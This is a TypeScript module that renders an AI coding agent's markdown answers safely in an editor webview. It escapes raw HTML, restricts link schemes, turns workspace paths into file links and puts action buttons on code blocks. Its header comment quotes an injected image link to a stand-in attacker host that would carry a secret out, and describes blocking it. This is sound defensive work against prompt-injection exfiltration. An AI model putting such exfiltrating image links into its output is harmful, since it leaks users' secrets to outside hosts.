/**
 * Markdown for agent answers. Raw HTML in the model's text is escaped, never rendered: the
 * answer may quote files or web pages, and the webview must not run what they contain.
 *
 * - Images load only from `data:` URLs; any other image becomes a plain link the user may
 *   choose to follow, so an injected `![](https://attacker/?secret=…)` fetches nothing.
 * - Links go to the web or mail only (`https:`, `http:`, `mailto:`): a `command:`, `vscode:` or
 *   other scheme an answer names is shown as text, never as something to click; a relative
 *   link that names a workspace path is a file link.
 * - Bare words are not turned into web links (`calc.py` is a file, not `http://calc.py`);
 *   workspace-looking paths (`src/app.py`, `calc.py:12`) become file links the host opens at
 *   the line, after checking the path is inside the workspace.
 * - Fenced code is highlighted (highlight.js) and carries Copy / Insert / Apply buttons.
 */

import hljs from "highlight.js/lib/common";
import MarkdownIt from "markdown-it";

const md = new MarkdownIt({ html: false, linkify: true, breaks: false });
md.linkify.set({ fuzzyLink: false, fuzzyEmail: false, fuzzyIP: false });

const WEB = /^(?:https?:|mailto:)/i;
const DATA_IMAGE = /^data:image\/(?:png|gif|jpe?g|webp);/i;
const SCHEME = /^[a-z][a-z0-9+.-]*:/i;
// A link or image with any other scheme is not parsed as one: its source shows as text.
md.validateLink = (url: string) => {
  const u = url.trim();
  return !SCHEME.test(u) || WEB.test(u) || DATA_IMAGE.test(u);
};

const escape = (s: string) => md.utils.escapeHtml(s);

const EXTENSIONS =
  "py|pyi|ts|tsx|js|jsx|mjs|cjs|json|md|toml|yaml|yml|rs|go|java|kt|c|h|cc|cpp|hpp|cs|rb|php|lua|sh|txt|cfg|ini|html|css|scss|sql|swift|vue|svelte";
/** A relative path with a known extension and an optional `:line`, not part of a URL. */
const PATH = new RegExp(
  `(^|[\\s(\\[,;'"])((?:[\\w.-]+/)*[\\w-][\\w.-]*\\.(?:${EXTENSIONS}))(?::(\\d+))?(?=$|[\\s)\\],;:.'"!?])`,
  "g",
);

export function fileLink(path: string, line?: string): string {
  const attrs = `class="file-link" href="#" data-path="${escape(path)}"${line ? ` data-line="${line}"` : ""}`;
  return `<a ${attrs}>${escape(path)}${line ? `:${line}` : ""}</a>`;
}

function linkPaths(text: string): string {
  let out = "";
  let last = 0;
  for (const m of text.matchAll(PATH)) {
    const start = (m.index ?? 0) + m[1].length;
    out += escape(text.slice(last, start)) + fileLink(m[2], m[3]);
    last = start + m[2].length + (m[3] ? m[3].length + 1 : 0);
  }
  return out + escape(text.slice(last));
}

const rules = md.renderer.rules;

rules.text = (tokens, idx, _opts, env: { inLink?: number }) =>
  env.inLink ? escape(tokens[idx].content) : linkPaths(tokens[idx].content);

rules.code_inline = (tokens, idx, _opts, env: { inLink?: number }) => {
  const content = tokens[idx].content;
  const whole = new RegExp(`^(?:[\\w.-]+/)*[\\w-][\\w.-]*\\.(?:${EXTENSIONS})(?::(\\d+))?$`);
  const m = env.inLink ? null : whole.exec(content);
  if (m) {
    const path = m[1] ? content.slice(0, -(m[1].length + 1)) : content;
    return `<code>${fileLink(path, m[1])}</code>`;
  }
  return `<code>${escape(content)}</code>`;
};

const defaultLinkOpen = rules.link_open ?? ((t, i, o, _e, self) => self.renderToken(t, i, o));
rules.link_open = (tokens, idx, opts, env: { inLink?: number }, self) => {
  env.inLink = (env.inLink ?? 0) + 1;
  const token = tokens[idx];
  const href = (token.attrGet("href") ?? "").trim();
  if (!WEB.test(href)) {
    // A relative link (`[the parser](src/parse.py)`) opens the workspace file, or nothing.
    const path = /^(?:\.\/)?((?:[\w.-]+\/)*[\w.-]+?)(?:#L?(\d+))?$/.exec(href);
    if (path && !SCHEME.test(href)) {
      return `<a class="file-link" href="#" data-path="${escape(path[1])}"${path[2] ? ` data-line="${path[2]}"` : ""}>`;
    }
    return `<a class="plain-link" title="${escape(href)}">`;
  }
  return defaultLinkOpen(tokens, idx, opts, env, self);
};
const defaultLinkClose = rules.link_close ?? ((t, i, o, _e, self) => self.renderToken(t, i, o));
rules.link_close = (tokens, idx, opts, env: { inLink?: number }, self) => {
  env.inLink = Math.max((env.inLink ?? 1) - 1, 0);
  return defaultLinkClose(tokens, idx, opts, env, self);
};

rules.image = (tokens, idx) => {
  const token = tokens[idx];
  const src = token.attrGet("src") ?? "";
  const alt = token.content || "image";
  if (/^data:image\/(png|gif|jpe?g|webp);/i.test(src)) {
    return `<img src="${escape(src)}" alt="${escape(alt)}">`;
  }
  // Shown, never fetched: the user decides whether to open a web image.
  const href = WEB.test(src) ? ` href="${escape(src)}"` : "";
  return `<a class="remote-image"${href} title="${escape(src)}">[image: ${escape(alt)}]</a>`;
};

rules.fence = (tokens, idx) => {
  const token = tokens[idx];
  const info = token.info.trim();
  const [langWord = "", ...rest] = info.split(/\s+/);
  // ```python calc.py  or  ```python:calc.py  names the file Apply targets.
  const [lang, pathFromLang] = langWord.includes(":") ? langWord.split(":", 2) : [langWord, ""];
  const target = pathFromLang || rest.find((w) => /[./]/.test(w)) || "";
  let body: string;
  if (lang && hljs.getLanguage(lang)) {
    body = hljs.highlight(token.content, { language: lang, ignoreIllegals: true }).value;
  } else {
    body = escape(token.content);
  }
  const actions = ["copy", "insert", "apply"]
    .map((a) => `<button class="code-action" data-action="${a}">${a[0].toUpperCase()}${a.slice(1)}</button>`)
    .join("");
  const label = `<span class="code-lang">${escape(lang || "text")}${target ? ` · ${escape(target)}` : ""}</span>`;
  return (
    `<div class="code-block" data-lang="${escape(lang)}" data-target="${escape(target)}">` +
    `<div class="code-toolbar">${label}${actions}</div>` +
    `<pre><code class="hljs${lang ? ` language-${escape(lang)}` : ""}">${body}</code></pre></div>\n`
  );
};

export function renderMarkdown(text: string): string {
  return md.render(text, {});
}
